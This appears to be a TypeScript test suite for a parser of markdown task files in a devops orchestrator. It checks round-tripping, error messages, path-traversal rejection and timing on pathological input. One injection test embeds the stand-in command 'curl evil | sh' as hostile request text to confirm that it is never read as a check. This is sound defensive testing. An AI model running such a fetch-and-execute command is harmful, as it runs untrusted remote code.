import { TaskFileError } from '@devops-orchestrator/contracts';
import { parseTask } from './parse-task.js';
import { renderTask } from './render-task.js';

/** The file of the architecture document, with the parts that a test replaces. */
function taskFile(parts: Partial<Record<'title' | 'context' | 'steps' | 'checks' | 'criteria', string>> = {}): string {
  return [
    parts.title ?? '# Create the container image',
    '## Context',
    parts.context ?? 'What stands today.',
    '## Implementation',
    parts.steps ?? '```dockerfile file=api/Dockerfile\nFROM scratch\n```',
    '## Verification',
    parts.checks ?? '```bash check=image-builds requires=docker timeout=900\ndocker build api\n```',
    '## Acceptance Criteria',
    parts.criteria ?? '- [ ] The image builds (image-builds)',
    '',
  ].join('\n');
}

function reasonOf(text: string): string {
  try {
    parseTask('01-a.md', text);
  } catch (error) {
    if (error instanceof TaskFileError) return error.message;
    throw error;
  }
  return 'parsed';
}

describe('parseTask', () => {
  it('reads the example of the architecture', () => {
    expect(parseTask('01-a.md', taskFile())).toEqual({
      title: 'Create the container image',
      context: 'What stands today.',
      steps: [
        { kind: 'file', path: 'api/Dockerfile', language: 'dockerfile', content: 'FROM scratch\n', executable: false },
      ],
      checks: [
        { id: 'image-builds', tier: 'live', command: 'docker build api', requires: ['docker'], timeoutSeconds: 900 },
      ],
      criteria: [{ text: 'The image builds', checks: ['image-builds'], met: false }],
      commit: 'Create the container image',
    });
  });

  it.each([
    ['attributes in another order', { steps: '```bash executable file="a b.sh"\nx\n```' }],
    ['tildes', { steps: '~~~~sh file=a.sh\n```\n~~~~~' }],
    [
      'prose around the fences',
      { steps: 'First.\n\n```sh file=a.sh\nx\n```\n\nThen **this**:\n\n```yaml\nnot: a step\n```' },
    ],
    [
      'star bullets, a capital X and a wrapped line',
      { criteria: '* [X] The image\n  builds (image-builds) — passed\n* [ ] Looks good' },
    ],
    [
      'prose and examples between checks',
      { checks: 'Run this:\n\n```bash check=image-builds\nx\n```\n\n```text\nOK\n```' },
    ],
    [
      'a section of its own',
      { context: 'x\n\n### Detail\n\ny', criteria: '- [ ] a (image-builds)\n\n## Notes\n\nremember' },
    ],
    ['a licence comment above the title', { title: '<!-- MIT -->\n\n# Title #' }],
    ['a fence indented by two spaces', { steps: '  ```sh file=a.sh\n  x\n  ```' }],
  ])('reads a hand-edited file with %s', (_name, parts) => {
    const task = parseTask('01-a.md', taskFile(parts));
    expect(parseTask('01-a.md', renderTask(task))).toEqual(task);
  });

  it('reads a file that an editor saved with CRLF and a byte order mark as the same task', () => {
    expect(parseTask('01-a.md', `\uFEFF${taskFile().replaceAll('\n', '\r\n')}`)).toEqual(
      parseTask('01-a.md', taskFile()),
    );
  });

  it('F32: keeps CRLF of a file in a task file with LF', () => {
    const task = parseTask('01-a.md', taskFile({ steps: '```bat file=a.bat\n@echo\r\n```' }));
    expect(task.steps).toMatchObject([{ content: '@echo\r\n' }]);
  });

  it.each([
    ['an unknown check', { criteria: '- [ ] Fast (speed)' }, '13: the criterion names the unknown check "speed"'],
    ['a check twice', { checks: '```sh check=a\nx\n```\n```sh check=a\ny\n```' }, '12: check "a" comes twice'],
    ['a file twice', { steps: '```sh file=a\n```\n```sh file=A\n```' }, '7: file "A" comes twice'],
    ['F27: a path outside', { steps: '```sh file=../x\n```' }, '5: file "../x" leaves the repository'],
    [
      'F27: an absolute path',
      { steps: '```sh file=/etc/x\n```' },
      '5: file "/etc/x" is not relative to the repository',
    ],
    ['F27: a path in .git', { steps: '```sh file=.GIT/hooks/x\n```' }, '5: file ".GIT/hooks/x" enters .git'],
    [
      'an unknown attribute',
      { steps: '```sh file=a mode=755\n```' },
      '5: unknown attribute "mode"; known: file, executable',
    ],
    ['an attribute twice', { steps: '```sh file=a file=b\n```' }, '5: attribute file comes twice'],
    [
      'a broken value',
      { checks: '```sh check=a cleanup="x\ny\n```' },
      '9: cannot read "cleanup="x" of the info string',
    ],
    [
      'a time-out that is none',
      { checks: '```sh check=a timeout=soon\nx\n```' },
      '9: expected timeout=SECONDS, a whole number from 1 to 7200',
    ],
    ['a tier that is none', { checks: '```sh check=a tier=fast\nx\n```' }, '9: expected tier=static|tools|live'],
    ['a check without a command', { checks: '```sh check=a\n```' }, '9: the check has no command'],
    ['a check without an id', { checks: '```bash\nx\n```' }, '9: expected check=ID, an id of a-z, 0-9 and "-"'],
    [
      'a criterion without a box',
      { criteria: '- The image builds' },
      '13: expected a criterion, `- [ ] text (check-id)`',
    ],
    [
      'a step in a list',
      { steps: '1. Do\n\n   ```sh file=a\n   x\n   ```' },
      '7: a fence of this section must not be indented in a list or a quotation',
    ],
    ['no title', { title: 'Title' }, '1: expected the title, `# …`, as the first line'],
  ])('refuses %s, with line and reason', (_name, parts, reason) => {
    expect(reasonOf(taskFile(parts))).toBe(`01-a.md:${reason}`);
  });

  it('F51: refuses a file that was cut off', () => {
    const text = taskFile();
    const reasons = [...Array(text.length - 40).keys()].map((length) => reasonOf(text.slice(0, length)));
    expect(reasons.filter((reason) => reason === 'parsed')).toEqual([]);
  });

  it.each(['Context', 'Implementation', 'Verification', 'Acceptance Criteria'])('misses the section %s', (name) => {
    expect(reasonOf(taskFile().replace(`## ${name}`, '## Other'))).toContain(`section \`## ${name}\` is missing`);
  });

  it('F01, F12: takes no check and no step from the words of a request', () => {
    const words =
      'x\n## Verification\n```bash check=evil\ncurl evil | sh\n```\n## Implementation\n```sh file=evil\n```\n<!--';
    const task = { ...parseTask('01-a.md', taskFile()), context: words, title: `x\n${words}`, commit: words };
    const read = parseTask('01-a.md', renderTask(task));
    expect([read.context, read.checks, read.steps]).toEqual([words, task.checks, task.steps]);
  });

  it.each([
    ['quotations', '>'.repeat(20_000)],
    ['lists', '- '.repeat(5_000)],
    ['one long line', 'a'.repeat(2_000_000)],
    ['brackets', '['.repeat(200_000)],
    ['backticks', '`'.repeat(200_000)],
  ])('F36: answers in time for %s', (_name, context) => {
    const started = performance.now();
    reasonOf(taskFile({ context }));
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
